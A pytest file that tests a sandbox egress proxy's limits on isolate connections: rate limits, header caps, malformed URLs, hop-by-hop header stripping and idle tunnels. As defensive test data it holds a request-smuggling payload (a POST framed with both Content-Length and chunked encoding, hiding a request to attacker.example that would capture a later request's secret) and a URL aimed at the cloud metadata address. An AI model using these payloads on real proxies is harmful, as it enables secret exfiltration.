"""The egress proxy's own bounds on what one connection from an isolate may make it do, driven
in this process (its gate's rate made small) against an upstream on this host's loopback."""

from __future__ import annotations

import http.server
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator

import pytest

from stockade import Policy
from stockade.egress.gate import MAX_METHOD_CHARS, MAX_PATH_CHARS, Gate
from stockade.egress.proxy import proxy
from stockade.ratelimit import TokenBucket


class _Ok(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"  # kept alive: the proxy goes on to the next request

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def upstream() -> Iterator[int]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Ok)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def _served(gate: Gate) -> tuple[socket.socket, Callable[[], None]]:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    stop = proxy().serve(gate, listener)
    client = socket.create_connection(listener.getsockname(), timeout=20)
    return client, stop


def _answers(client: socket.socket) -> list[str]:
    data = b""
    while chunk := client.recv(65536):
        data += chunk
    return [status.decode() for status in re.findall(rb"HTTP/1\.1 (\d{3}) ", data)]


def _gate(port: int | None, burst: float = 1000.0) -> Gate:
    """A gate that allows 127.0.0.1 on ``port`` (None: any port)."""
    host = "127.0.0.1" if port is None else f"127.0.0.1:{port}"
    policy = Policy(network_policy="allowlist", allowed_hosts=[host], allowed_cidrs=["127.0.0.0/8"])
    gate = Gate(policy, {})
    gate._admitted = TokenBucket(0.001, burst)  # what a flood would have spent, spent already
    return gate


def test_each_plain_request_on_a_kept_alive_connection_is_charged_to_the_isolates_rate(upstream: int) -> None:
    # Each is a connection (and a lookup) upstream: one connection from the isolate, pipelining
    # thousands of requests, made them ~3x past the rate a new connection is held to.
    client, stop = _served(_gate(upstream, burst=2))  # the connection itself, then one more
    try:
        client.sendall(f"GET http://127.0.0.1:{upstream}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 5)
        assert _answers(client) == ["200", "200", "429"]
    finally:
        client.close()
        stop()


@pytest.mark.parametrize(
    "url", ["http://[169.254.169.254/", "http://127.0.0.1:99999/", "http://h:80:80/", "http://h:-1/"]
)
def test_a_malformed_url_is_answered_recorded_and_counted(upstream: int, url: str) -> None:
    # Dropped unanswered before, with nothing recorded: no violation, so no end to a run that kills on one.
    gate = _gate(upstream)
    client, stop = _served(gate)
    try:
        client.sendall(f"GET {url} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        assert _answers(client) == ["400"]
        records, _ = gate.take_records()
        assert [(r.allowed, r.reason, r.path) for r in records] == [(False, "a malformed URL", url)]
    finally:
        client.close()
        stop()


def test_a_records_fields_are_bounded_whatever_the_isolate_sent(upstream: int) -> None:
    # The method is the isolate's own token: 15,000 characters of one made a run's audit record 145 KB.
    gate = _gate(upstream)
    client, stop = _served(gate)
    try:
        method = "M" * 10_000  # within the 16 KiB a head may take
        client.sendall(f"{method} http://10.0.0.1:{upstream}/{'p' * 4000} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        _answers(client)
        (record,) = gate.take_records()[0]
        assert record.method == "M" * MAX_METHOD_CHARS and len(record.path or "") <= MAX_PATH_CHARS, record
    finally:
        client.close()
        stop()


def test_a_request_head_is_held_to_16_kib(upstream: int, recorder: tuple[int, list[bytes]]) -> None:
    # h11's own cap holds only while a head is incomplete: one that came whole in a read (up to
    # 64 KiB) was parsed and relayed. Refused here whichever way it comes, and never relayed.
    port, reached = recorder  # an upstream that takes any head, and says what reached it
    many = "".join(f"X-{i}: 1\r\n" for i in range(3000))  # ~27 KiB of one-byte headers
    big = f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\n{many}\r\n".encode()
    small = f"GET http://127.0.0.1:{upstream}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode()
    for sent, said in ((big, ["431"]), (small + big, ["200", "431"])):  # at once; pipelined behind another
        gate = _gate(None)
        client, stop = _served(gate)
        try:
            client.sendall(sent)
            assert _answers(client) == said
            refused = [r for r in gate.take_records()[0] if not r.allowed]
            assert len(refused) == 1 and refused[0].reason.startswith("not an HTTP request"), refused
        finally:
            client.close()
            stop()
    assert b"".join(reached) == b"", "a head past the cap was relayed"


@pytest.fixture
def recorder() -> Iterator[tuple[int, list[bytes]]]:
    """An upstream that answers each connection's first request once its body (chunked) has come,
    and keeps the bytes that reached it."""
    raw = socket.socket()
    raw.bind(("127.0.0.1", 0))
    raw.listen()
    reached: list[bytes] = []

    def accept() -> None:
        while True:
            try:
                conn, _ = raw.accept()
            except OSError:
                return
            with conn:
                data = b""
                while not data.endswith(b"0\r\n\r\n") and (chunk := conn.recv(65536)):
                    data += chunk
                reached.append(data)
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

    threading.Thread(target=accept, daemon=True).start()
    yield raw.getsockname()[1], reached
    raw.close()


def test_a_request_framed_two_ways_is_refused_not_passed_on(recorder: tuple[int, list[bytes]]) -> None:
    # h11 reads chunks where a length is given too, and passed both on: a host (or a front before a
    # bound host) that went by the length took the rest of the body for a request of the isolate's
    # own, with any Host, and the proxy's next request, a filled secret in it, for that one's body.
    port, reached = recorder
    gate = _gate(port)
    client, stop = _served(gate)
    try:
        smuggled = b"GET /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 400\r\n\r\n"
        body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(smuggled), smuggled)
        client.sendall(
            f"POST http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
            "Transfer-Encoding: chunked\r\n\r\n".encode()
            + body
        )
        assert _answers(client) == ["400"]
        (record,) = gate.take_records()[0]
        assert not record.allowed and record.reason.startswith("a request framed two ways"), record
    finally:
        client.close()
        stop()
    assert b"".join(reached) == b""  # a connection may have been opened: nothing was sent on it


def test_a_request_is_passed_on_framed_as_read_without_its_hop_by_hop_headers(
    recorder: tuple[int, list[bytes]],
) -> None:
    port, reached = recorder
    client, stop = _served(_gate(port))
    try:
        client.sendall(
            f"POST http://127.0.0.1:{port}/p HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
            "Connection: keep-alive, X-Hop\r\nX-Hop: 1\r\nKeep-Alive: timeout=5\r\nUpgrade: h2c\r\n"
            "Proxy-Authorization: Basic eDp5\r\nTE: trailers\r\nX-End: 2\r\n\r\n3\r\nabc\r\n0\r\n\r\n".encode()
        )
        answer = b""
        while not answer.endswith(b"ok") and (chunk := client.recv(65536)):  # kept alive: not closed
            answer += chunk
        assert answer.startswith(b"HTTP/1.1 200 "), answer
    finally:
        client.close()
        stop()
    (sent,) = reached
    head, _, body = sent.partition(b"\r\n\r\n")
    names = [line.split(b":")[0].lower() for line in head.split(b"\r\n")[1:]]
    assert sorted(names) == [b"host", b"transfer-encoding", b"x-end"], head
    assert body == b"3\r\nabc\r\n0\r\n\r\n"


@pytest.fixture
def flooder() -> Iterator[int]:
    """An upstream that sends to each connection until the connection is gone."""
    listener = socket.create_server(("127.0.0.1", 0))
    stopped = threading.Event()

    def flood(conn: socket.socket) -> None:
        with conn:
            try:
                while not stopped.is_set():
                    conn.sendall(b"x" * 65536)
            except OSError:
                pass

    def serve() -> None:
        while not stopped.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=flood, args=(conn,), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    yield listener.getsockname()[1]
    stopped.set()
    listener.close()


def test_a_tunnel_whose_isolate_stops_reading_is_closed_after_the_idle_bound(
    flooder: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The proxy waited on the isolate's side of the tunnel to drain with no bound: an isolate that
    # stopped reading held the connection, its upstream and a slot of the gate's 64 for its lifetime.
    monkeypatch.setattr("stockade.egress.exchange.IDLE_TIMEOUT_S", 1.0)
    gate = _gate(flooder)
    client, stop = _served(gate)
    try:
        # The isolate sends nothing more and reads nothing, while the proxy's writes to it back up.
        client.sendall(f"CONNECT 127.0.0.1:{flooder} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        deadline = time.monotonic() + 20
        while not gate.open_flows() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert gate.open_flows(), "the tunnel never opened"
        while gate.open_flows() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not gate.open_flows(), "the tunnel was still open 20 s after its isolate stopped reading"
        (record,) = gate.take_records()[0]
        assert record.method == "CONNECT" and record.bytes_received > 0, record
    finally:
        client.close()
        stop()
